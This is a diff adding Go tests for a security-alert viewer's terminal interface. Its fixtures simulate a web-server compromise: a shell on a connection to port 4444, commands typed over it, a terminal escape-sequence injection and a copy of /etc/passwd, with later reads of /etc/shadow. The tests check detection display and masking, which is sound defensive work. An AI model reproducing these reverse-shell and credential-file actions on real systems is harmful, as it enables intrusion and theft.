@@ -1,0 +1,160 @@
+package tui
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stoop-project/stoop/internal/event"
+	"github.com/stoop-project/stoop/tui/tuitest"
+)
+
+// A shell on a connection, what was said on it, and a copy of a file in many
+// calls.
+func shellScene() *event.Batch {
+	w := tuitest.NewWorld()
+	cont := w.Container("6cf4be7b2388", "web", "web-0", "shop", "docker.io/shop/web:2.4.1")
+	server := w.Proc(0, cont, 4410, 33, "www-data", "/usr/bin/python3", "/srv/app.py")
+	w.Do(server, "execve", w.File("/usr/bin/python3"), 0)
+	w.Wait(time.Minute)
+	sh := w.Proc(server, 0, 5901, 33, "www-data", "/bin/sh")
+	w.Do(sh, "execve", w.File("/bin/sh"), 0)
+	call := w.Conn("10.4.0.17:37352", "10.4.9.66:4444")
+	w.Do(sh, "connect", call, 0)
+	w.Alert(sh, "connect", call, "Shell on a network connection", event.PriorityCritical, "mitre_execution")
+	say := func(typ, text string, n int) { w.Do(sh, typ, call, int64(n), "data", []byte(text)) }
+	say("read", "id\n", 3)
+	say("write", "uid=33(www-data)\n", 17)
+	say("read", "curl -H 'Authorization: Bearer s5Ff0cs5Ff0cs5Ff0c' http://10.4.9.66\n", 70)
+	say("write", "<html>\r\n<title>\x1b]0;owned\x07", 9000)
+	w.Wait(20 * time.Second)
+	passwd, copied := w.File("/etc/passwd"), w.File("/tmp/p")
+	w.Do(sh, "openat", passwd, 3, "flags", uint64(0), "name", "/etc/passwd")
+	for range 2304 {
+		w.Do(sh, "read", passwd, 4096)
+		w.Do(sh, "write", copied, 4096)
+	}
+	w.Do(sh, "procexit", 0, 0)
+	return w.Take()
+}
+
+func openShell(t *testing.T, w, h int) (*tuitest.Driver, *Model) {
+	t.Helper()
+	d, m := openOn(t, &tuitest.Source{Name: "shell", Batches: []*event.Batch{shellScene()}}, w, h)
+	d.Keys("e", "enter")
+	return d, m
+}
+
+func wants(t *testing.T, d *tuitest.Driver, texts ...string) {
+	t.Helper()
+	shown := d.Text()
+	for _, text := range texts {
+		if !strings.Contains(shown, text) {
+			t.Errorf("%q is not on the screen:\n%s", text, shown)
+		}
+	}
+}
+
+// Runs of like calls are one line, which unfolds in place.
+func TestTrailFolds(t *testing.T) {
+	d, m := openShell(t, 120, 40)
+	d.Keys("G", "k", "k")
+	wants(t, d, "▸", "read ×2,304, 9.0 MB", "/etc/passwd", "write ×2,304, 9.0 MB", "without an event")
+	golden(t, d, 120, 40, "trail-folded")
+	lines := m.level().trail.events.lines.Len()
+	d.Keys("enter")
+	if n := m.level().trail.events.lines.Len(); n != lines+2304 {
+		t.Errorf("unfolding made %d lines of %d", n, lines)
+	}
+	golden(t, d, 120, 40, "trail-unfolded")
+	d.Keys("j", "j", "j", "enter")
+	if n := m.level().trail.events.lines.Len(); n != lines {
+		t.Errorf("folding made %d lines, not %d", n, lines)
+	}
+	d.Keys("/")
+	d.Type("/tmp/p")
+	d.Keys("enter", "n", "n")
+	if p := &m.level().trail.events; p.lines.Line(p.at).Of != 3 {
+		t.Errorf("the third match is on line %+v", p.lines.Line(p.at))
+	}
+}
+
+// What was typed and answered can be read, with secrets masked and nothing that
+// the terminal would obey.
+func TestTrailStream(t *testing.T) {
+	d, m := openShell(t, 120, 40)
+	d.Keys("v")
+	wants(t, d, "‹ id", "› uid=33(www-data)", "Bearer ****", `› <title>\x1b]0;owned\x07`, "9 KB more moved and was not kept")
+	if text := d.Text(); strings.Contains(text, "s5Ff0c") {
+		t.Errorf("the token shows:\n%s", text)
+	}
+	golden(t, d, 120, 40, "trail-stream")
+	d.Keys("j", "enter")
+	if row, ok := m.level().trail.row(); !ok || row.B.Res[row.I] != 17 {
+		t.Errorf("the second line is not the answer's")
+	}
+}
+
+// Events that only a SIEM holds come into the trail, and the screen says where
+// they are from.
+func TestTrailFromSIEM(t *testing.T) {
+	src, _ := kept()
+	d, m := openOn(t, src, 120, 40)
+	d.Settle(changedMsg{}, func() bool { return m.level().counted.shown == 1 })
+	d.Keys("s", "s")
+	if n := len(m.level().trail.trail.Steps); n != 3 || !m.level().trail.elsewhere {
+		t.Errorf("the trail has %d events of 3:\n%s", n, d.Text())
+	}
+	wants(t, d, "open /etc/shadow", "open /etc/group", "2 places")
+	d.Keys("W")
+	wants(t, d, "es://siem/falco-*", "the alert's container")
+	d.Keys("esc", "d")
+	wants(t, d, "fd.name", "/etc/shadow")
+}
+
+// A place that cannot be asked is said.
+func TestTrailPlaceFails(t *testing.T) {
+	src, _ := kept()
+	d, m := openOn(t, src, 120, 40)
+	d.Settle(changedMsg{}, func() bool { return m.level().counted.shown == 1 })
+	src.Refuse(errors.New("connection refused"))
+	d.Keys("s", "W")
+	wants(t, d, "1 failed", "connection refused")
+}
+
+// An alert that names neither container nor process has its answer.
+func TestTrailOfBareAlert(t *testing.T) {
+	w := tuitest.NewWorld()
+	p := w.Proc(0, event.ContID(w.T.Conts.Add(event.Container{})), 0, 0, "", "")
+	w.Alert(p, "openat", 0, "Something", event.PriorityWarning)
+	d, _ := openOn(t, &tuitest.Source{Name: "bare", Batches: []*event.Batch{w.Take()}}, 120, 40)
+	d.Keys("e", "enter")
+	golden(t, d, 120, 40, "trail-bare")
+	d.Keys("W")
+	wants(t, d, "--container ID name them")
+	d.Keys("esc", "s", "enter", "o", "O", "v", "p", "d", "esc", "esc", "esc", "esc")
+}
+
+// A trail of very many processes and events is drawn by what is on the screen.
+func TestTrailOfThousands(t *testing.T) {
+	w := tuitest.NewWorld()
+	cont := w.Container("6cf4be7b2388", "web", "web-0", "shop", "docker.io/shop/web:2.4.1")
+	sh := w.Proc(0, cont, 100, 0, "root", "/bin/sh")
+	w.Do(sh, "execve", w.File("/bin/sh"), 0)
+	w.Alert(sh, "execve", 0, "Shell", event.PriorityCritical)
+	for i := range 20_000 {
+		p := w.Proc(sh, 0, int32(1000+i), 0, "root", "/bin/tool", fmt.Sprint(i))
+		w.Do(p, "execve", w.File("/bin/tool"), 0)
+	}
+	d, m := openOn(t, &tuitest.Source{Name: "many", Batches: []*event.Batch{w.Take()}}, 120, 40)
+	d.Keys("e", "enter")
+	wants(t, d, "lineage 20,001 processes", "events 20,002 events")
+	d.Keys("G")
+	wants(t, d, "tool 19999")
+	d.Keys("p", "G", "k")
+	if n := m.level().trail.lineage.node(); n == nil || n.Line() != "/bin/tool 19998" && n.Process.PID != 20998 {
+		t.Errorf("the last but one is %v", n)
+	}
+}
